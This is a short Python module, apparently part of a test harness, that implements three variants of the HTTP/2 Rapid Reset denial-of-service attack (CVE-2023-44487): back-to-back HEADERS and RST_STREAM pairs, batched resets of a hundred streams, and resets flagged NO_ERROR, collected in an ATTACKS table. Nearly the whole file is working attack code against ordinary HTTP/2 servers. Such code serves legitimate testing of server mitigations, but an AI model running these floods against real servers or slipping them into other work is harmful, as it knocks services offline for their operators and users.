"""Rapid reset (CVE-2023-44487): requests that are cancelled as soon as they are made.

Each cancelled stream leaves the count of open ones at once, while the server is still busy with it.
"""

from hyperframe.frame import RstStreamFrame

from peer import Peer, request

NO_ERROR = 0
CANCEL = 8
# Resets in a second that are too many only for what they are of: requests that nobody has answered.
GIVEN_UP = 60


def rapid_reset(target, pace):
    """HEADERS and RST_STREAM, pair after pair, as fast as the server reads."""
    peer = Peer(target)
    while pace.goes_on(peer):
        stream = peer.open(request(b"/attack/slow"))
        peer.send(RstStreamFrame(stream, error_code=CANCEL))
        if stream % 64 == 1:
            peer.pump(0)
    return peer


def rapid_reset_batched(target, pace):
    """A hundred requests, a moment to reach the origin, then a reset for each; again and again."""
    peer = Peer(target)
    while pace.goes_on(peer):
        streams = [peer.open(request(b"/attack/slow")) for _ in range(100)]
        peer.pump(0.02)
        peer.send(*(RstStreamFrame(stream, error_code=CANCEL) for stream in streams))
        peer.pump(0)
    return peer


def reset_without_error(target, pace):
    """Sixty requests, a moment to reach the origin, then a reset of each that claims there is no error."""
    peer = Peer(target)
    streams = [peer.open(request(b"/attack/slow")) for _ in range(GIVEN_UP)]
    peer.pump(0.1)
    peer.send(*(RstStreamFrame(stream, error_code=NO_ERROR) for stream in streams))
    peer.pump(pace.left(), until=lambda: peer.over)
    return peer


ATTACKS = {
    "rapid-reset": rapid_reset,
    "rapid-reset-batched": rapid_reset_batched,
    "rapid-reset-no-error": reset_without_error,
}
